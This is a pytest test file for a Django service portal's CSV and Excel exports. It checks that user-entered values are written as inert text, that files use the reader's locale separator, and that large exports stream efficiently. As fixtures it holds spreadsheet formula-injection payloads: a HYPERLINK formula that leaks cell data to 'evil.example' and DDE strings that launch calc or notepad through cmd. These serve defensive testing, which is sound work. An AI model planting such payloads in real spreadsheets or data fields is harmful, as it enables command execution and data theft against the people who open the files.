"""Every CSV and Excel export, written by service_portal.spreadsheets: no formula ever runs,
files Excel opens in every language, Excel files written row by row."""

from __future__ import annotations

import datetime
import re
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone

from accounts.models import Role
from calls.models import Call, Intervention
from customers.models import Product
from invoicing import services as invoicing_services
from orders import services as order_services
from planner.models import TimeEntry, WorkKind
from service_portal import spreadsheets
from tests.downloads import body, csv_rows, workbook
from tests.factories import make_contact, make_customer, make_site, make_unit, make_user
from tests.invoicing.factories import DAY, make_verified_call
from tests.orders.factories import make_accepted, make_part
from tests.test_permissions import _named_urls

pytestmark = pytest.mark.django_db

# What a customer, a clerk or a technician could type, and a spreadsheet would run.
CUSTOMER = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
SITE = "\r+1+cmd|' /C calc'!A0"
CONTACT = "-2+3+cmd|' /C notepad'!A0"
SERIAL = "@SUM(1+1)*cmd|' /C calc'!A0"
PRODUCT = "=1+1"
DESCRIPTION = "=cmd|' /C calc'!A0"
ENTRY = "\t=1+1"
TECHNICIAN = "=2+2 Evil"  # a person's full name
HOSTILE = [CUSTOMER, SITE, CONTACT, SERIAL, PRODUCT, DESCRIPTION, ENTRY, TECHNICIAN]
NUMBER = re.compile(r"-?\d+([.,]\d+)?")


@pytest.fixture
def hostile_world(administrator, operator):
    customer = make_customer(name=CUSTOMER, external_code="C-EVIL")
    site = make_site(customer, name=SITE, external_code="S-EVIL")
    contact = make_contact(customer, site=site, name=CONTACT, external_code="K-EVIL")
    product = Product.objects.create(code=PRODUCT, description="Press")
    unit = make_unit(site, product, serial_number=SERIAL, external_code="U-EVIL")
    first, last = TECHNICIAN.split()
    technician = make_user("evil-tech", Role.TECHNICIAN, first_name=first, last_name=last)
    call = make_verified_call(unit=unit, technician=technician)
    Call.objects.filter(pk=call.pk).update(description=DESCRIPTION)
    TimeEntry.objects.create(
        user=technician,
        date=DAY,
        hours=Decimal("1.5"),
        kind=WorkKind.OFFICE,
        description=ENTRY,
        created_by=technician,
    )
    draft = invoicing_services.create_draft(calls=[call], acting_user=administrator)
    invoicing_services.issue(invoice=draft, acting_user=administrator)
    setting = {"customer": customer, "site": site, "contact": contact, "unit": unit}
    offer = make_accepted(operator, parts=[make_part()], **setting)
    order_services.convert_to_order(offer=offer, acting_user=operator)
    make_accepted(operator, parts=[make_part()], **setting)  # an offer that stays an offer


def _exports() -> dict[str, list[tuple[list, dict]]]:
    """Every export of the portal, with the arguments and filters that reach the data."""
    month = {"month": f"{DAY:%Y-%m}"}
    period = {"date_from": "2026-01-01", "date_to": timezone.localdate().isoformat()}
    kinds = [([kind], {}) for kind in ("customers", "sites", "contacts", "units")]
    return {
        "calls:export_csv": [([], {})],
        "calls:export_xlsx": [([], {})],
        "invoicing:export_csv": [([], {})],
        "invoicing:export_xlsx": [([], {})],
        "planner:team_hours_csv": [([], month)],
        "planner:team_hours_xlsx": [([], month)],
        "invoicing:expenses_csv": [([], month)],
        "invoicing:expenses_xlsx": [([], month)],
        "dashboard:export_csv": [([], period)],
        "orders:offer_export": [([], {})],
        "orders:order_export": [([], {})],
        "customers:export_csv": kinds,
        "customers:export_xlsx": [([], {})],
    }


def test_the_list_of_exports_is_complete():
    """A new export must be added to _exports() (and so to the hostile test below). The
    FatturaPA zip is XML for the SDI, not a spreadsheet (tests/invoicing/test_fatturapa.py)."""
    found = {
        name
        for name in _named_urls()
        if "export" in name or name.endswith(("_csv", "_xlsx", ".csv", ".xlsx"))
    } - {"invoicing:export_fatturapa"}
    assert found == set(_exports())


def _csv_offences(rows: list[list[str]]) -> list[str]:
    return [
        cell
        for row in rows
        for cell in row
        if cell.startswith(spreadsheets.FORMULA_TRIGGERS) and not NUMBER.fullmatch(cell)
    ]


def _excel_offences(book) -> tuple[list[str], set[str]]:
    offences, texts = [], set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    offences.append(f"formula {cell.coordinate}: {cell.value}")
                if isinstance(cell.value, str):
                    texts.add(cell.value)
                    if cell.value.startswith(spreadsheets.FORMULA_TRIGGERS) and not (
                        cell.quotePrefix
                    ):
                        offences.append(f"no quote prefix {cell.coordinate}: {cell.value!r}")
    return offences, texts


def test_every_export_writes_hostile_values_as_inert_text(hostile_world, admin_client_):
    seen: set[str] = set()
    problems: dict[str, list[str]] = {}
    for name, requests in _exports().items():
        for args, params in requests:
            url = reverse(name, args=args)
            response = admin_client_.get(url, params)
            assert response.status_code == 200, (url, response.status_code)
            if response["Content-Type"].startswith("text/csv"):
                for separator, delimiter in (("comma", ","), ("semicolon", ";")):
                    chosen = admin_client_.get(url, {**params, "separator": separator})
                    rows = csv_rows(chosen, delimiter)
                    if found := _csv_offences(rows):
                        problems[f"{url} {separator}"] = found
                    cells = {cell for row in rows for cell in row}
                    seen |= {value for value in HOSTILE if "'" + value in cells}
            else:
                assert response["Content-Type"] == spreadsheets.XLSX
                found, texts = _excel_offences(workbook(response))
                if found:
                    problems[url] = found
                seen |= texts & set(HOSTILE)  # as typed, in a text cell
    assert not problems, problems
    assert seen == set(HOSTILE)  # every hostile value went through some export


def test_an_imported_csv_of_the_installed_base_reads_the_texts_back(hostile_world, admin_client_):
    from customers.importing import read_file

    response = admin_client_.get(reverse("customers:export_csv", args=["customers"]))
    (sheet,) = read_file("customers.csv", body(response), kind="customers")
    assert CUSTOMER in [cells[1] for _line, cells in sheet.rows]


@pytest.mark.parametrize(
    ("language", "delimiter", "mark"),
    [("it", ";", ","), ("de", ";", ","), ("fr", ";", ","), ("es", ";", ","), ("en", ",", ".")],
)
def test_csv_files_use_the_readers_list_separator_and_a_bom(
    client_for, administrator, language, delimiter, mark
):
    draft = invoicing_services.create_draft(calls=[make_verified_call()], acting_user=administrator)
    invoice = invoicing_services.issue(invoice=draft, acting_user=administrator)
    total = f"{invoice.total:.2f}"
    client = client_for(make_user(f"acc-{language}", Role.ADMINISTRATOR, language=language))
    response = client.get(reverse("invoicing:export_csv"))
    raw = body(response)
    assert raw.startswith("\ufeff".encode())  # UTF-8 with a BOM: Excel reads the accents
    rows = csv_rows(raw, delimiter)
    assert len(rows[0]) == 11 and rows[1][0] == invoice.code
    assert rows[1][9] == total.replace(".", mark)  # the decimal mark goes with the separator
    # The other programs' choice: commas and decimal points.
    comma = csv_rows(client.get(reverse("invoicing:export_csv"), {"separator": "comma"}))
    assert comma[1][9] == total


def test_ten_thousand_rows_of_excel_stream_in_a_fixed_number_of_queries(
    admin_client_, administrator, settings, django_assert_max_num_queries
):
    """The call search's Excel export at its limit (EXPORT_MAX_ROWS_XLSX = 10,000 rows) is
    streamed row by row from a fixed number of queries; its speed is measured by `make bench`,
    never by a clock in the test suite."""
    assert settings.EXPORT_MAX_ROWS_XLSX == 10_000
    unit = make_unit()
    now = timezone.now()
    calls = Call.objects.bulk_create(
        Call(
            code=f"2099-{n:06d}",
            received_at=now - datetime.timedelta(minutes=n),
            customer=unit.site.customer,
            site=unit.site,
            unit=unit,
            description=f"Pressure drops on line {n}; error E{n % 90}",
            created_by=administrator,
        )
        for n in range(10_000)
    )
    Intervention.objects.bulk_create(
        Intervention(call=call, number=1, code=f"{call.code}/1") for call in calls
    )
    with django_assert_max_num_queries(20):
        response = admin_client_.get(reverse("calls:export_xlsx"))
        content = body(response)
    assert response.status_code == 200
    sheet = workbook(content).active
    assert sheet.max_row == 10_001 and len(content) > 100_000


def test_the_writer_cleans_what_excel_cannot_hold():
    from openpyxl import Workbook

    sheet = Workbook(write_only=True).create_sheet("x")
    cell = spreadsheets.excel_cell(sheet, "a\x00b\x1fc" + "x" * 40_000)
    assert cell.value.startswith("abc") and len(cell.value) == 32767
    assert spreadsheets.excel_cell(sheet, "#N/A").data_type == "s"  # text, not an error
    assert spreadsheets.excel_cell(sheet, "=1+1").data_type == "s"
    assert spreadsheets.neutralise("-5") == "'-5"  # a text that looks like a number stays text
    assert spreadsheets.restore("'=1+1") == "=1+1" and spreadsheets.restore("'ok") == "'ok"
